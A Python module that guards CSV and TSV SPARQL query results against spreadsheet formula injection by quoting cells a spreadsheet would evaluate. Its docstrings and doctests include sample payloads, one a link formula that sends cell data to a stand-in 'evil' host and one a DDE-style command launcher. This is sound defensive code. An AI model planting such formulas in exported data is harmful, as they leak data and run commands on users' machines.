"""CSV and TSV results that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, LibreOffice and Google Sheets, so a label in a
source document such as ``=HYPERLINK("http://evil/?"&A1)`` would run when an
analyst opens a download (CSV/formula injection). Such cells get a leading
``'``, the neutralisation OWASP recommends; numbers such as ``-5`` are left as
they are. The CLI and the server both pass their CSV and TSV through here.
"""

import csv
import io
import re

__all__ = ["neutralise", "safe_csv", "safe_tsv"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """Prefix ``'`` to a cell a spreadsheet would evaluate.

    Examples:
        >>> neutralise("=1+2"), neutralise("-5"), neutralise("@SUM(A1)")
        ("'=1+2", '-5', "'@SUM(A1)")
    """
    if cell.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def safe_csv(body: bytes) -> bytes:
    r"""Neutralise every cell of a CSV document (SPARQL 1.1 CSV results).

    Examples:
        >>> safe_csv(b"x,y\r\n=cmd|calc!A0,-5\r\n")
        b"x,y\r\n'=cmd|calc!A0,-5\r\n"
    """
    reader = csv.reader(io.StringIO(body.decode("utf-8"), newline=""))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([neutralise(cell) for cell in row] for row in reader)
    return out.getvalue().encode("utf-8")


def safe_tsv(body: bytes) -> bytes:
    r"""Neutralise every cell of SPARQL 1.1 TSV results.

    TSV cells are RDF terms in N-Triples syntax. A spreadsheet drops the
    quotes of a literal and evaluates what is inside (``"=1+1"`` is a
    formula), so a literal's text is checked like a bare value, and the
    ``'`` goes inside its quotes; IRIs (``<...>``) are safe.

    Examples:
        >>> safe_tsv(b'?x\n-5\n=1+1\n"=HYPERLINK(1)"@en\n"-2"^^<http://x>\n')
        b'?x\n-5\n\'=1+1\n"\'=HYPERLINK(1)"@en\n"-2"^^<http://x>\n'
    """
    lines = body.decode("utf-8").split("\n")
    fixed = ["\t".join(_tsv_cell(c) for c in line.split("\t")) for line in lines]
    return "\n".join(fixed).encode("utf-8")


def _tsv_cell(cell: str) -> str:
    if cell.startswith('"'):
        end = cell.rfind('"')
        if end > 0:
            text = cell[1:end]
            # Inside a literal a tab or line break is escaped (\t, \r).
            if text.startswith(("\\t", "\\r")):
                return "\"'" + cell[1:]
            guarded = neutralise(text)
            return '"' + guarded + cell[end:] if guarded != text else cell
    return neutralise(cell)
